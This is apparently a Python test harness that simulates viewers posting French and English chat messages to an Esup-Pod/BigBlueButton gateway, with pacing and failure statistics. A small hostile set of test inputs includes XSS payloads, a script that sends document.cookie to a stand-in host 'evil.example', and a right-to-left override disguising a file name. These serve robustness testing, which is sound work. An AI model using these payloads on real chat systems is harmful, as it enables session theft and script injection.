"""A simulated webinar audience: viewers writing in the chat of Esup-Pod's live page.

Each message goes the way Pod sends it (gateway-and-pod.md §9, §6.2): the text is prefixed with
``"(First Last) "``, ``'`` and ``"`` become ``’`` (the legacy gateway builds a shell ``echo '…'``),
and the result is posted to the gateway — ``POST /chat`` on a legacy gateway, ``sendChat`` through
``/command`` on a v1.8 proxy — which types it into BBB's public chat as the user ``streaming``.

Most messages are ordinary questions and remarks, in French and in English.  A share
(``hostile_share``, 5 % by default) is the input a console must survive: HTML and script tags,
a 5,000-character text, emoji, right-to-left text, control characters, zero-width characters.

The reader does not get one push per message: the lab's GraphQL chat re-runs its live query
every ``BBBOptions.graphql_live_refetch_interval`` (250 ms, as BBB configures Hasura) and pushes
what arrived in between at once; set it to 0 for the worst case of one push per message
(``desktop.lab.bbb.graphql``, "How BBB pushes the chat").

Pacing: messages are scheduled on the event loop's clock (exponential gaps of mean
``1 / rate``, a Poisson audience) and each one is sent at its due time whatever the previous posts
are doing, so a slow or hung gateway shows up as failures and lag, not as a drifting schedule.
"""

from __future__ import annotations

import asyncio
import logging
import random
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import aiohttp

logger = logging.getLogger(__name__)

Poster = Callable[[str, str], Awaitable[None]]
"""``await post(author, text)``: send one audience message; raises when it was not accepted."""

MAX_IN_FLIGHT = 16

FIRST_NAMES_FR = (
    "Camille", "Léa", "Manon", "Chloé", "Inès", "Juliette", "Élodie", "Margaux", "Anaïs", "Clémence",
    "Lucas", "Hugo", "Théo", "Mathis", "Nathan", "Étienne", "Benoît", "Jérôme", "François", "Aurélien",
)
LAST_NAMES_FR = (
    "Martin", "Bernard", "Dubois", "Lefèvre", "Moreau", "Laurent", "Girard", "Roux", "Fournier", "Mercier",
    "Bonnet", "Lambert", "Faure", "Rousseau", "Blanchard", "Guérin", "Chevalier", "D'Almeida", "Le Gall",
    "N'Diaye",
)
FIRST_NAMES_EN = (
    "Olivia", "Emma", "Amelia", "Isla", "Grace", "Sophie", "Hannah", "Chloe", "Megan", "Zoe",
    "Oliver", "George", "Harry", "Jack", "Noah", "Liam", "Ethan", "Samuel", "Owen", "Connor",
)
LAST_NAMES_EN = (
    "Smith", "Jones", "Williams", "Taylor", "Brown", "Davies", "Evans", "Wilson", "Thomas", "Johnson",
    "Roberts", "Walker", "Wright", "Robinson", "Thompson", "Hughes", "O'Brien", "O'Connor", "McCarthy",
    "Patel",
)

MESSAGES_FR = (
    "Bonjour à tous !",
    "Bonjour, le son est bon de mon côté.",
    "Est-ce que les diapositives seront partagées après la session ?",
    "Pouvez-vous répéter la dernière phrase s'il vous plaît ?",
    "Le son coupe un peu chez moi.",
    "Merci pour cette présentation très claire.",
    "La vidéo est un peu en retard mais ça va.",
    "Est-ce que la séance est enregistrée ?",
    "Quelle est la différence entre les deux approches ?",
    "Je n'entends plus rien, c'est normal ?",
    "C'est revenu, merci !",
    "Pouvez-vous zoomer sur le schéma ?",
    "Où peut-on trouver la bibliographie ?",
    "Est-ce que ce sera au partiel ?",
    "Super intéressant, merci.",
    "Une question sur le deuxième exemple : pourquoi ce choix ?",
    "Le lien vers le questionnaire ne fonctionne pas.",
    "Combien de temps dure la pause ?",
    "Bonsoir depuis Lyon !",
    "Est-ce qu'il y aura une séance de questions à la fin ?",
    "Je suis en retard, qu'est-ce que j'ai manqué ?",
    "Les sous-titres sont-ils disponibles ?",
    "Merci beaucoup, à la semaine prochaine.",
    "Peut-on avoir les références de l'article cité ?",
    "L'image est figée chez moi.",
    "Quel logiciel utilisez-vous pour la démonstration ?",
    "Est-ce que le TP de jeudi est maintenu ?",
    "Très bonne explication du théorème.",
    "On peut poser des questions à l'écrit ici ?",
    "Bravo pour l'organisation !",
)
MESSAGES_EN = (
    "Hello everyone!",
    "Hi from Manchester, sound is fine here.",
    "Will the slides be shared after the session?",
    "Could you repeat the last point please?",
    "The stream is a bit choppy for me.",
    "Thanks, that was a very clear explanation.",
    "Is this session being recorded?",
    "What's the difference between the two methods?",
    "I can't hear anything, is it just me?",
    "Audio is back, thanks!",
    "Can you zoom in on the diagram?",
    "Where can we find the reading list?",
    "Will this be on the exam?",
    "Really interesting, thank you.",
    "Quick question about the second example: why that choice?",
    "The survey link doesn't work.",
    "How long is the break?",
    "Good evening from Dublin!",
    "Will there be a Q&A at the end?",
    "Sorry I'm late, what did I miss?",
    "Are captions available?",
    "Thanks a lot, see you next week.",
    "Could you share the reference for that paper?",
    "My video is frozen.",
    "Which software are you using for the demo?",
    "Is Thursday's lab still on?",
    "Great explanation of the proof.",
    "Can we ask questions in the chat?",
    "Well organised, congrats!",
    "Is there a transcript somewhere?",
)

_LONG_SENTENCE = "Ceci est un très long message pour tester les limites. This is a very long message. "


def _long_text() -> str:
    return (_LONG_SENTENCE * (5000 // len(_LONG_SENTENCE) + 1))[:5000]


HOSTILE_MESSAGES: tuple[tuple[str, str], ...] = (
    ("html", "<b>gras</b> <i>italic</i> <a href=\"https://example.org\">lien</a>"),
    ("html", "<img src=x onerror=alert(1)> <iframe src=\"javascript:alert(2)\"></iframe>"),
    ("script", "<script>alert('xss')</script>"),
    ("script", "</textarea><script>document.location='https://evil.example/?c='+document.cookie</script>"),
    ("long", _long_text()),
    ("emoji", "🎉🎉 Bravo ! 👏🏽👏🏿 🧑‍🏫 👨‍👩‍👧‍👦 🇫🇷🇬🇧 😂"),
    ("rtl", "مرحبا بالجميع، هل يمكنكم سماعي؟"),
    ("rtl", "שלום לכולם \u202eevil.exe\u202c text"),
    ("control", "bell\x07 escape\x1b[31mred\x1b[0m null\x00 cr\r\nnewline\ttab"),
    ("zero-width", "invi\u200bsi\u200cble\u200d char\ufeffs and\u2060 joiners"),
    ("combining", "Z̸̢̛a̵̡͝l̷̨̛g̴̢͘o̶̧͠ text"),
)


def pod_message(author: str, text: str) -> str:
    """What Pod sends to the gateway for ``author``'s ``text`` (§6.2, §3.6)."""
    return f"({author}) {text}".replace("'", "’").replace('"', "’")


@dataclass(frozen=True)
class Viewer:
    first_name: str
    last_name: str
    language: str  # "fr" | "en"

    @property
    def name(self) -> str:
        return f"{self.first_name} {self.last_name}"


@dataclass(frozen=True)
class AudienceMessage:
    viewer: Viewer
    text: str
    kind: str  # "question", "remark" or a hostile kind (see HOSTILE_MESSAGES)

    @property
    def hostile(self) -> bool:
        return self.kind not in ("question", "remark")


@dataclass(frozen=True)
class AudienceStats:
    """Counters of a simulator.

    Attributes:
        sent: messages the gateway accepted.
        failed: messages it refused or that failed (error reply, timeout, connection).
        hostile: hostile messages among those scheduled.
        in_flight: posts still waiting for their answer.
        lag: the largest delay between a message's due time and its sending, in seconds.
        mean_lag: the mean of those delays.
    """

    sent: int
    failed: int
    hostile: int
    in_flight: int
    lag: float
    mean_lag: float


class AudienceSimulator:
    """``viewers`` people posting ``rate`` messages per second (on average) through ``post``."""

    def __init__(self, post: Poster, *, viewers: int = 30, rate: float = 0.5, seed: int | None = None,
                 hostile_share: float = 0.05, max_in_flight: int = MAX_IN_FLIGHT) -> None:
        if viewers < 1:
            raise ValueError("an audience needs at least one viewer")
        if rate <= 0:
            raise ValueError("the message rate must be positive")
        self._post = post
        self.rate = rate
        self.hostile_share = hostile_share
        self._rng = random.Random(seed)
        self.viewers = self._make_viewers(viewers)
        self._slots = asyncio.Semaphore(max_in_flight)
        self._tasks: set[asyncio.Task[None]] = set()
        self._runner: asyncio.Task[AudienceStats] | None = None
        self._sent = 0
        self._failed = 0
        self._hostile = 0
        self._lags: list[float] = []
        self.last_error: str | None = None

    def _make_viewers(self, count: int) -> list[Viewer]:
        seen: set[str] = set()
        viewers: list[Viewer] = []
        while len(viewers) < count:
            language = "fr" if self._rng.random() < 0.6 else "en"
            firsts, lasts = (FIRST_NAMES_FR, LAST_NAMES_FR) if language == "fr" else (FIRST_NAMES_EN, LAST_NAMES_EN)
            viewer = Viewer(self._rng.choice(firsts), self._rng.choice(lasts), language)
            if viewer.name in seen and len(seen) < len(firsts) * len(lasts) // 2:
                continue
            seen.add(viewer.name)
            viewers.append(viewer)
        return viewers

    # -- messages ------------------------------------------------------------------------------
    def compose(self) -> AudienceMessage:
        """The next message: a viewer and a text (raw, before Pod's formatting)."""
        viewer = self._rng.choice(self.viewers)
        if self._rng.random() < self.hostile_share:
            kind, text = self._rng.choice(HOSTILE_MESSAGES)
            return AudienceMessage(viewer, text, kind)
        text = self._rng.choice(MESSAGES_FR if viewer.language == "fr" else MESSAGES_EN)
        return AudienceMessage(viewer, text, "question" if text.rstrip().endswith("?") else "remark")

    def _gap(self) -> float:
        return self._rng.expovariate(self.rate)

    # -- running -------------------------------------------------------------------------------
    async def run(self, messages: int | None = None, *, duration: float | None = None) -> AudienceStats:
        """Post ``messages`` messages (or for ``duration`` seconds, or until cancelled), then wait
        for the posts still in flight."""
        loop = asyncio.get_running_loop()
        start = loop.time()
        due = start
        count = 0
        try:
            while messages is None or count < messages:
                due += self._gap()
                if duration is not None and due - start > duration:
                    break
                delay = due - loop.time()
                if delay > 0:
                    await asyncio.sleep(delay)  # the pacing itself: wait for the message's due time
                message = self.compose()
                if message.hostile:
                    self._hostile += 1
                self._lags.append(max(0.0, loop.time() - due))
                task = loop.create_task(self._send(message))
                self._tasks.add(task)
                task.add_done_callback(self._finished)
                count += 1
        finally:
            if self._tasks:
                await asyncio.gather(*list(self._tasks), return_exceptions=True)
        return self.stats()

    def start(self, messages: int | None = None, *, duration: float | None = None) -> None:
        """Run in the background (see :meth:`run`); :meth:`stop` ends it."""
        if self._runner is None or self._runner.done():
            self._runner = asyncio.get_running_loop().create_task(self.run(messages, duration=duration))

    async def stop(self) -> AudienceStats:
        runner, self._runner = self._runner, None
        if runner is not None:
            runner.cancel()
            await asyncio.gather(runner, return_exceptions=True)
        for task in list(self._tasks):
            task.cancel()
        if self._tasks:
            await asyncio.gather(*list(self._tasks), return_exceptions=True)
        return self.stats()

    def _finished(self, task: asyncio.Task[None]) -> None:
        self._tasks.discard(task)
        if task.cancelled():  # stopped before the gateway answered (or before it was sent)
            self._failed += 1

    async def _send(self, message: AudienceMessage) -> None:
        async with self._slots:
            try:
                await self._post(message.viewer.name, message.text)
            except Exception as exc:  # any refusal counts as a failed message, the audience goes on
                self._failed += 1
                self.last_error = f"{exc.__class__.__name__}: {exc}"[:200]
                logger.debug("audience message failed: %s", self.last_error)
            else:
                self._sent += 1

    def stats(self) -> AudienceStats:
        lags = self._lags
        return AudienceStats(sent=self._sent, failed=self._failed, hostile=self._hostile,
                             in_flight=len(self._tasks), lag=max(lags, default=0.0),
                             mean_lag=sum(lags) / len(lags) if lags else 0.0)


# -- posting through a gateway ---------------------------------------------------------------------
class ChatPostRefused(Exception):
    """The gateway answered, but did not accept the message."""


class _HttpPoster:
    def __init__(self, timeout: float, session: aiohttp.ClientSession | None) -> None:
        self._timeout = aiohttp.ClientTimeout(total=timeout)
        self._session = session
        self._own_session = session is None

    def _client(self) -> aiohttp.ClientSession:
        if self._session is None:
            self._session = aiohttp.ClientSession(timeout=self._timeout)
        return self._session

    async def aclose(self) -> None:
        session, self._session = self._session, None
        if session is not None and self._own_session:
            await session.close()


class LegacyChatPoster(_HttpPoster):
    """``POST {url}/chat {"room","msg"}`` like Pod's ``chat_rtmp_gateway`` (no token)."""

    def __init__(self, url: str, room: str, *, timeout: float = 30.0,
                 session: aiohttp.ClientSession | None = None) -> None:
        super().__init__(timeout, session)
        self.url = url.rstrip("/") + "/chat"
        self.room = room

    async def __call__(self, author: str, text: str) -> None:
        body = {"room": self.room, "msg": pod_message(author, text)}
        async with self._client().post(self.url, json=body, timeout=self._timeout) as response:
            reply = await response.json(content_type=None) if response.status == 200 else None
            if not isinstance(reply, dict) or "ok" not in str(reply.get("res", "")):
                raise ChatPostRefused(f"HTTP {response.status}")


class ProxyChatPoster(_HttpPoster):
    """``POST {url}/command`` with ``sendChat`` on a v1.8 proxy (Bearer token)."""

    def __init__(self, url: str, token: str, gw_id: str, *, timeout: float = 30.0,
                 session: aiohttp.ClientSession | None = None) -> None:
        super().__init__(timeout, session)
        self.url = url.rstrip("/") + "/command"
        self._headers = {"Authorization": f"Bearer {token}"}
        self.gw_id = gw_id

    async def __call__(self, author: str, text: str) -> None:
        body = {"gw_id": self.gw_id, "payload": {"command": "sendChat", "param1": pod_message(author, text)}}
        async with self._client().post(self.url, json=body, headers=self._headers,
                                       timeout=self._timeout) as response:
            reply = await response.json(content_type=None) if response.status == 200 else None
            if not isinstance(reply, dict) or reply.get("status") != "success":
                raise ChatPostRefused(f"HTTP {response.status}")


def legacy_chat_poster(url: str, room: str, *, timeout: float = 30.0,
                       session: aiohttp.ClientSession | None = None) -> LegacyChatPoster:
    """A :data:`Poster` for a legacy gateway at ``url`` serving ``room`` (``aclose()`` when done)."""
    return LegacyChatPoster(url, room, timeout=timeout, session=session)


def proxy_chat_poster(url: str, token: str, gw_id: str, *, timeout: float = 30.0,
                      session: aiohttp.ClientSession | None = None) -> ProxyChatPoster:
    """A :data:`Poster` for gateway ``gw_id`` of the v1.8 proxy at ``url`` (``aclose()`` when done)."""
    return ProxyChatPoster(url, token, gw_id, timeout=timeout, session=session)
